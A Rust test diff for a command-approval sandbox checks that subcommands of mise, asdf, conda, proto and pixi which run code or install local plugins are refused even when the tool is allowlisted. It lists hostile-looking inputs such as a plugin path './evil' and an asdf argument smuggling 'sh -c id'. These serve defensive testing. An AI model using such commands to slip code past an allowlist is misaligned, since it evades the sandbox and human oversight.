@@ -120,3 +120,76 @@ fn tar_members_land_only_where_an_extraction_may_write() {
     let wrong = failures(table, &options);
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
+
+/// 8.sh: version managers' and environment tools' subcommands that run code or a command,
+/// under their aliases too (mise's `t` = tasks, `p` = plugins, `i`, `ln`), approved with the
+/// tool allowlisted; the lines that only select, list or print keep passing.
+#[test]
+fn version_managers_pass_only_what_selects_lists_or_prints() {
+    let sandbox = Sandbox::new("review5-managers");
+    let ws = sandbox.dir("ws");
+    let programs = [
+        "mise",
+        "asdf",
+        "conda",
+        "micromamba",
+        "proto",
+        "pixi",
+        "pyenv",
+    ];
+    let options = sandbox.allowlisting(ws, &programs);
+    let table: &[(&str, bool, &str)] = &[
+        ("mise t run build", false, "`mise tasks run`"),
+        ("mise p link node ./evil", false, "`mise plugins link`"),
+        ("mise p ln node ./evil", false, "`mise plugins link`"),
+        ("mise p i node /tmp/evil", false, "`mise plugins install`"),
+        ("mise plugins i node /tmp/evil", false, "plugins"),
+        (
+            "mise generate git-pre-commit --write",
+            false,
+            "mise generate",
+        ),
+        ("mise tasks edit build", false, "mise tasks edit"),
+        ("mise prepare", false, "mise prepare"),
+        ("mise -E dev t run build", false, "tasks run"),
+        ("mise --bogus ls", false, "no global option"),
+        ("asdf plugin test x ./evil", false, "asdf plugin test"),
+        (
+            "asdf plugin test x https://e.invalid/p.git \"sh -c id\"",
+            false,
+            "plugin test",
+        ),
+        ("asdf plugin add x ./evil", false, "plugin add"),
+        ("conda build .", false, "conda build"),
+        ("conda develop .", false, "conda develop"),
+        (
+            "conda env create -f environment.yml",
+            false,
+            "conda env create",
+        ),
+        ("conda env update", false, "conda env update"),
+        ("conda install ./pkg.conda", false, "./pkg.conda"),
+        ("micromamba env create -f env.yml", false, "env create"),
+        ("pixi install", false, "pixi install"),
+        ("proto run node -- -e 1", false, "proto run"),
+        ("proto exec node", false, "proto exec"),
+        ("proto shell", false, "proto shell"),
+        ("pyenv versions", true, "allowlisted"),
+        ("pyenv install 3.12", true, "allowlisted"),
+        ("mise ls", true, "allowlisted"),
+        ("mise use node@20", true, "allowlisted"),
+        ("mise install node@20", true, "allowlisted"),
+        ("mise p ls", true, "allowlisted"),
+        ("asdf current", true, "allowlisted"),
+        ("asdf plugin list", true, "allowlisted"),
+        ("conda list", true, "allowlisted"),
+        ("conda env list", true, "allowlisted"),
+        ("conda install -c conda-forge numpy", true, "allowlisted"),
+        ("micromamba env list", true, "allowlisted"),
+        ("pixi list", true, "allowlisted"),
+        ("proto install node 20", true, "allowlisted"),
+        ("proto ls", true, "allowlisted"),
+    ];
+    let wrong = failures(table, &options);
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
